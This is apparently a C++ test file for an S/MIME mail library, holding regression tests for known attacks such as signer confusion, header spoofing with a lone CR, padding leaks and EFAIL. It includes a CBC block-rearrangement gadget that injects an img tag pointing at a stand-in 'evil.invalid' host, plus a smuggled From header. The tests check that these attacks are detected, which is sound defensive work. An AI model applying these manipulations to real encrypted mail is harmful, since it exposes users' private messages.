// Attacks that once got through: a sender who did not write the content, a sender who is
// shown and was not judged, work without bound, and failures that tell more than they must.
#include <gtest/gtest.h>

#include "message/people.h"

namespace bulla::testing {
namespace {

constexpr char kText[] =
    "MIME-Version: 1.0\r\nContent-Type: text/plain; charset=us-ascii\r\n\r\nHello Bob\r\n";

std::string mail_from(const std::string& from, const std::string& rest = kText) {
  return "From: " + from + "\r\nTo: ec@example.org\r\nSubject: Plan\r\n" + rest;
}

// As other programs write it: without header protection.
Recipe plain(std::vector<Step> steps) {
  return {.steps = std::move(steps), .header_protection = Recipe::HeaderProtection::Off};
}

TEST(Attack, MIME46_T92_who_signs_a_ciphertext_is_not_its_author) {
  World world;
  std::string stolen =
      seal_mail(mail_from("ec@example.org"), plain({encrypt_to("ec"), sign_as("ec", "ec")}));
  Opened opened = open_mail(stolen, world.options);
  EXPECT_EQ(opened.status(), Status::Indeterminate) << opened.text();
  EXPECT_TRUE(opened.has(Rule::EncUnauthenticated)) << opened.text();
  std::string gcm =
      seal_mail(mail_from("ec@example.org"),
                plain({encrypt_to("ec", ContentCipher::Aes256Gcm), sign_as("ec", "ec")}));
  opened = open_mail(gcm, world.options);
  EXPECT_EQ(opened.status(), Status::Indeterminate) << opened.text();
  EXPECT_TRUE(opened.has(Rule::EncSenderUnknown)) << opened.text();
}

TEST(Attack, MIME46_T92_another_signer_inside_does_not_make_it_so) {
  World world;
  for (auto protection : {Recipe::HeaderProtection::Off, Recipe::HeaderProtection::On}) {
    Recipe recipe = plain({sign_as("alice", "alice"), encrypt_to("ec"), sign_as("ec", "ec")});
    recipe.header_protection = protection;
    Opened wrapped = open_mail(seal_mail(mail_from("ec@example.org"), recipe), world.options);
    EXPECT_EQ(wrapped.status(), Status::Indeterminate) << wrapped.text();
    Opened inside = open_mail(seal_mail(mail_from("alice@example.org"), recipe), world.options);
    EXPECT_EQ(inside.status(), Status::Valid) << inside.text();
  }
}

TEST(Attack, MIME46_the_verifier_judges_the_signature_on_the_ciphertext) {
  World world;
  world.options.keys = nullptr;
  std::string mail =
      seal_mail(mail_from("ec@example.org"), plain({encrypt_to("ec"), sign_as("ec", "ec")}));
  EXPECT_EQ(open_mail(mail, world.options).status(), Status::Valid);
}

TEST(Attack, T11_a_foreign_signer_without_a_path_is_not_shown_as_valid) {
  World world;
  Sign both = sign_as("alice", "alice");
  both.signers.push_back({.identity = identity("self_signed", "alice"), .digest = {}});
  Opened opened =
      open_mail(seal_mail(mail_from("alice@example.org"), plain({both})), world.options);
  EXPECT_EQ(opened.status(), Status::Valid) << opened.text();
  ASSERT_TRUE(opened.verdict);
  std::size_t valid = 0;
  for (const SignerVerdict& signer : opened.verdict->layers.at(0).signers) {
    if (signer.status != Status::Valid) continue;
    ++valid;
    EXPECT_EQ(signer.matched_address, "alice@example.org");
  }
  EXPECT_EQ(valid, 1u);
}

TEST(Attack, T93_a_part_is_shown_with_the_sender_it_was_judged_by) {
  World world;
  std::string part = seal_mail(mail_from("ec@example.org"), {.steps = {sign_as("alice", "alice")}});
  ASSERT_NE(part.find("hp="), std::string::npos);
  std::string mail = mail_from("alice@example.org",
                               "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; "
                               "boundary=around\r\n\r\n--around\r\n" +
                                   part + "\r\n--around--\r\n");
  world.options.part = "1";
  Opened opened = open_mail(mail, world.options);
  EXPECT_EQ(opened.status(), Status::Valid) << opened.text();
  EXPECT_NE(opened.content.find("From: alice@example.org"), std::string::npos) << opened.content;
  EXPECT_EQ(opened.content.find("From: ec@example.org"), std::string::npos) << opened.content;
}

TEST(Attack, T93_a_protected_header_without_From_leaves_the_outer_one_to_be_judged) {
  World world;
  std::string without = mail_from("x");
  without.erase(0, without.find('\n') + 1);
  std::string sealed = seal_mail(without, {.steps = {sign_as("ec", "ec")}});
  ASSERT_NE(sealed.find("hp="), std::string::npos);
  Opened opened = open_mail("From: alice@example.org\r\n" + sealed, world.options);
  EXPECT_EQ(opened.status(), Status::Invalid) << opened.text();
  EXPECT_TRUE(opened.has(Rule::AddressFromDiffers)) << opened.text();
  EXPECT_EQ(opened.content, "");
}

TEST(Attack, T83_a_lone_cr_in_the_header_hides_no_other_From) {
  World world;
  std::string sealed = seal_mail(mail_from("ec@example.org"), plain({sign_as("ec", "ec")}));
  EXPECT_EQ(open_mail(sealed, world.options).status(), Status::Valid);
  Opened opened = open_mail("X-A: b\rFrom: alice@example.org\r\n" + sealed, world.options);
  EXPECT_EQ(opened.status(), Status::Invalid) << opened.text();
  EXPECT_TRUE(opened.has(Rule::AddressAmbiguous)) << opened.text();
}

// What bulla itself would not write: made by tests/data/attack/make.sh.
std::string made(const std::string& name) {
  Bytes file = read_file(std::string(BULLA_TEST_DATA) + "/attack/" + name + ".eml");
  return std::string(as_text(file));
}

TEST(Attack, T83_nor_does_a_lone_cr_inside) {
  World world;
  Opened opened = open_mail(made("lone_cr_inside"), world.options);
  EXPECT_EQ(opened.status(), Status::Invalid) << opened.text();
  EXPECT_TRUE(opened.has(Rule::AddressAmbiguous)) << opened.text();
}

TEST(Attack, T93_the_From_of_the_verdict_is_the_one_that_was_judged) {
  World world;
  Opened opened = open_mail(made("older_scheme"), world.options);
  ASSERT_TRUE(opened.verdict) << opened.text();
  EXPECT_EQ(opened.verdict->layers.at(0).signers.at(0).matched_address, "alice@example.org");
  EXPECT_EQ(opened.verdict->headers.from, "alice@example.org") << opened.text();
  EXPECT_NE(opened.content.find("From: alice@example.org"), std::string::npos) << opened.content;
}

TEST(Attack, promise_9_more_senders_than_signers_are_not_compared) {
  World world;
  auto with_senders = [](std::size_t count) {
    std::string from = "alice@example.org";
    for (std::size_t i = 1; i < count; ++i) from += ",\r\n alice@example.org";
    return seal_mail(mail_from(from), plain({sign_as("alice", "alice")}));
  };
  std::size_t limit = world.options.limits.signers;
  Opened most = open_mail(with_senders(limit), world.options);
  EXPECT_EQ(most.status(), Status::Valid) << most.text();
  Opened more = open_mail(with_senders(limit + 1), world.options);
  EXPECT_EQ(more.status(), Status::Invalid);
  EXPECT_TRUE(more.has(Rule::AddressAmbiguous)) << more.text();
}

class CountingSource final : public Source {
 public:
  explicit CountingSource(ByteView bytes) : inner_(bytes) {}
  Result<std::size_t> read(MutableByteView buffer) override {
    auto count = inner_.read(buffer.first(std::min<std::size_t>(buffer.size(), 1'024)));
    if (count) taken += *count;
    return count;
  }
  std::size_t taken = 0;

 private:
  MemorySource inner_;
};

// A ciphertext whose content is no good multipart/signed, followed by a lot of text.
std::string broken_inside(ContentCipher cipher) {
  std::string rest =
      "MIME-Version: 1.0\r\nContent-Type: multipart/signed; micalg=sha-256; boundary=q;\r\n"
      " protocol=\"application/pkcs7-signature\"\r\n\r\n--q\r\n\r\na\r\n"
      "--q\r\nContent-Type: text/plain\r\n\r\n";
  for (int i = 0; i < 2'000; ++i) rest += "a line of text\r\n";
  return seal_mail(mail_from("alice@example.org", rest + "--q--\r\n"),
                   plain({encrypt_to("ec", cipher)}),
                   {.at = kNow, .limits = {}, .form = SealOptions::Form::Der});
}

TEST(Attack, T30_a_failure_inside_is_told_when_all_is_decrypted) {
  World world;
  std::string cbc = broken_inside(ContentCipher::Aes256Cbc);
  CountingSource source(as_bytes(cbc));
  Opened opened = open_from(source, world.options);
  EXPECT_TRUE(opened.has(Rule::EncFailed)) << opened.text();
  EXPECT_EQ(source.taken, cbc.size());
  // Behind a tag that fits it may be named.
  Opened gcm = open_mail(broken_inside(ContentCipher::Aes256Gcm), world.options);
  EXPECT_TRUE(gcm.has(Rule::MimeSignedParts)) << gcm.text();
}

TEST(Attack, T30_what_stands_behind_a_ciphertext_does_not_tell_whether_it_opened) {
  World world;
  std::string cbc = seal_mail(mail_from("alice@example.org"), plain({encrypt_to("ec")}),
                              {.at = kNow, .limits = {}, .form = SealOptions::Form::Der});
  ASSERT_TRUE(open_mail(cbc, world.options).verdict);
  std::string bad_padding = cbc;
  bad_padding[cbc.size() - 20] ^= 1;
  for (const std::string& message : {cbc, bad_padding}) {
    Opened opened = open_mail(message + "more", world.options);
    EXPECT_TRUE(opened.has(Rule::EncFailed)) << opened.text();
  }
}

constexpr std::size_t kBlock = 16;

std::string encrypt_only(const std::string& rest, ContentCipher cipher) {
  return seal_mail(mail_from("alice@example.org", rest), plain({encrypt_to("ec", cipher)}),
                   {.at = kNow, .limits = {}, .form = SealOptions::Form::Der});
}

// An HTML mail as EFAIL takes it: nothing but its first block need be known.
std::string html_mail() {
  std::string rest = "Content-Type: text/html; charset=us-ascii\r\n\r\n";
  for (int i = 0; i < 60; ++i) rest += "<p>a line of text that goes on for a while</p>\r\n";
  return rest;
}

// Puts 16 octets of choice into what a CBC message decrypts to, and one block of noise before
// them: C[i] = IV + P[1] + chosen, C[i + 1] = C[1] (EFAIL, figure 4).
class Gadgets {
 public:
  Gadgets(std::string message, std::string plaintext)
      : message_(std::move(message)), plaintext_(std::move(plaintext)) {
    std::size_t blocks = plaintext_.size() / kBlock + 1;
    first_ = message_.size() - blocks * kBlock;
    // The length of the content stands between.
    iv_ = first_ - 4 - kBlock;
    EXPECT_EQ(message_.substr(iv_ - 2, 2), "\x04\x10");
    EXPECT_EQ(message_.substr(first_ - 4, 2), "\x80\x82");
    iv_octets_ = message_.substr(iv_, kBlock);
    first_block_ = message_.substr(first_, kBlock);
  }

  void put(std::size_t block, std::string chosen) {
    chosen.resize(kBlock, ' ');
    for (std::size_t i = 0; i < kBlock; ++i) {
      message_[first_ + block * kBlock + i] =
          static_cast<char>(iv_octets_[i] ^ plaintext_[i] ^ chosen[i]);
    }
    message_.replace(first_ + (block + 1) * kBlock, kBlock, first_block_);
  }

  const std::string& message() const { return message_; }

 private:
  std::string message_;
  std::string plaintext_;
  std::string iv_octets_;
  std::string first_block_;
  std::size_t first_ = 0;
  std::size_t iv_ = 0;
};

TEST(Attack, T03_blocks_rearranged_to_send_the_text_away_are_noticed) {
  World world;
  world.options.form = OpenOptions::Form::Content;
  std::string cbc = encrypt_only(html_mail(), ContentCipher::Aes256Cbc);
  Opened whole = open_mail(cbc, world.options);
  ASSERT_EQ(whole.status(), Status::Indeterminate) << whole.text();
  Gadgets gadgets(cbc, whole.content);
  std::size_t block = 10;
  for (const char* chosen : {"<img ignore='", "' src='http:", "//evil.invali", "d/", "a", "b", "c",
                             "d", "e", "f", "g", "h"}) {
    gadgets.put(block, chosen);
    block += 2;
  }
  for (auto peel : {OpenOptions::Peel::All, OpenOptions::Peel::EncryptionOnly}) {
    world.options.peel = peel;
    CountingSource source(as_bytes(gadgets.message()));
    Opened opened = open_from(source, world.options);
    EXPECT_TRUE(opened.has(Rule::EncFailed)) << opened.text();
    EXPECT_EQ(opened.content.find("evil"), std::string::npos);
    // Told as late as bad padding is (T-30).
    EXPECT_EQ(source.taken, gadgets.message().size());
  }
}

struct Shape {
  const char* what;
  std::string rest;
};

std::string with_noise(std::string text, char octet) {
  text.insert(text.size() - 4, 1, octet);
  return text;
}

// What a malleable cipher must not give out, and a signature or a tag may.
std::vector<Shape> noisy() {
  std::string part = "--q\r\nContent-Type: text/plain\r\n\r\na\r\n";
  std::string mixed = "Content-Type: multipart/mixed; boundary=q\r\n\r\n";
  std::string declared =
      "Content-Type: text/plain; charset=iso-8859-1\r\n"
      "Content-Transfer-Encoding: ";
  return {
      {"a control in the header", "X-A: \x01\r\n" + html_mail()},
      {"octets that are no UTF-8 in the header", "X-A: \xff\xfe\r\n" + html_mail()},
      {"a control in a part's header", mixed + "--q\r\nX-A: \x01\r\n\r\na\r\n--q--\r\n"},
      {"a control in the text", with_noise(html_mail(), '\x02')},
      {"NUL in the text", with_noise(html_mail(), '\0')},
      {"a control in 8bit", with_noise(declared + "8bit\r\n\r\ntext\r\n", '\x7f')},
      {"an octet past ASCII in 7bit", with_noise(declared + "7bit\r\n\r\ntext\r\n", '\xe4')},
      {"an octet past ASCII in base64",
       with_noise(declared + "base64\r\n\r\nYWFh\r\n\r\n", '\xe4')},
      {"a control in the preamble", mixed + "\x05\r\n" + part + "--q--\r\n"},
      {"a control in the epilogue", mixed + part + "--q--\r\n\x05\r\n"},
      {"no last delimiter", mixed + part},
  };
}

TEST(Attack, T03_what_a_malleable_cipher_gives_looks_like_mail_or_stays_in) {
  World world;
  for (const Shape& shape : noisy()) {
    Opened cbc = open_mail(encrypt_only(shape.rest, ContentCipher::Aes256Cbc), world.options);
    EXPECT_TRUE(cbc.has(Rule::EncFailed)) << shape.what << "\n" << cbc.text();
    EXPECT_FALSE(cbc.verdict) << shape.what;
    Opened gcm = open_mail(encrypt_only(shape.rest, ContentCipher::Aes256Gcm), world.options);
    EXPECT_EQ(gcm.status(), Status::Indeterminate) << shape.what << "\n" << gcm.text();
    EXPECT_TRUE(gcm.has(Rule::EncSenderUnknown)) << shape.what << "\n" << gcm.text();
    Recipe sealed = plain({sign_as("alice", "alice", Sign::Form::Opaque), encrypt_to("ec")});
    Opened inside =
        open_mail(seal_mail(mail_from("alice@example.org", shape.rest), sealed), world.options);
    EXPECT_FALSE(inside.has(Rule::EncFailed)) << shape.what << "\n" << inside.text();
  }
}

TEST(Attack, T03_mail_that_is_odd_but_no_noise_comes_out_of_a_malleable_cipher) {
  World world;
  std::string type = "Content-Type: text/plain; charset=";
  const Shape shapes[] = {
      {"UTF-8 that nobody declared", type + "utf-8\r\n\r\nGr\xc3\xbc\xc3\x9f"
                                            "e\r\n"},
      {"Latin 1", type + "iso-8859-1\r\nContent-Transfer-Encoding: 8bit\r\n\r\nGr\xfc\xdf"
                         "e\r\n"},
      {"ISO 2022", type + "iso-2022-jp\r\n\r\n\x1b$B4A;z\x1b(B\r\n"},
      {"UTF-8 in the header", "X-A: \xc3\xbc\r\n" + html_mail()},
      {"a file of DOS", type + "us-ascii\r\n\r\n\ta\f\r\n\x1a\r\n"},
      {"a part that is binary",
       "Content-Type: multipart/mixed; boundary=q\r\nContent-Transfer-Encoding: binary\r\n\r\n"
       "--q\r\nContent-Transfer-Encoding: binary\r\n\r\n" +
           std::string(3, '\0') + "\x01\r\n--q--\r\n"},
  };
  for (const Shape& shape : shapes) {
    Opened opened = open_mail(encrypt_only(shape.rest, ContentCipher::Aes256Cbc), world.options);
    EXPECT_EQ(opened.status(), Status::Indeterminate) << shape.what << "\n" << opened.text();
    EXPECT_TRUE(opened.has(Rule::EncUnauthenticated)) << shape.what << "\n" << opened.text();
  }
}

}  // namespace
}  // namespace bulla::testing
